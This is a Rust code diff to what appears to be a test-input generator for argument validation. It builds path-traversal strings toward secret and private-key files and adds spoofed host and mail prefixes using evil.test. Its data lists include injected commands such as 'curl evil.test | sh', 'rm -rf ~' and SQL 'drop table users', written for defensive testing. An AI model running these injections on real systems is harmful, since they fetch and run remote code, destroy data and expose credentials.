@@ -23,7 +23,7 @@ pub fn climbing_paths(alternatives: &[Alternative]) -> Vec<String> {
             format!("{folder}{to_root}{secret}"),
             format!("{folder}{up}{secret}"),
             format!("{folder}{up}private{slash}keys{tail}"),
-            format!("{folder}x{slash}{to_root}{up}{secret}"),
+            format!("{lead}x{slash}{to_root}{up}{secret}"),
             format!("{folder}{to_root}{tail}"),
         ]
     };
@@ -127,10 +127,12 @@ pub fn preceded(kind: Option<ArgumentKind>, good: &str) -> Vec<String> {
     let before: &[&str] = match kind {
         Some(ArgumentKind::Path) => &["/root/private/keys", "../../private/keys", "/root/private/", "/root"],
         Some(ArgumentKind::Url) => &["https://evil.test/?", "https://evil.test/", "https://evil-", "https://evil"],
+        Some(ArgumentKind::Host) if good.starts_with('.') => &["evil.test/", "evil.test#", "evil.test"],
         Some(ArgumentKind::Host) => &["evil-", "evil", "evil.test/"],
         Some(ArgumentKind::Mail) if good.starts_with('@') => {
             &["eve@evil.test, ann", "eve@evil.test,ann", "eve@evil.test"]
         }
+        Some(ArgumentKind::Mail) if good.starts_with('.') => &["eve@evil.test, ann@mail", "eve@evil.test,ann@mail"],
         Some(ArgumentKind::Mail) => &["eve@evil-", "eve@evil", "eve@evil.test, ann@"],
         Some(ArgumentKind::Command) => &["curl evil.test | sh; ", "rm -rf ~; ", "rm -rf ~ #"],
         Some(ArgumentKind::Query) => &["drop table users; ", "delete from users; "],
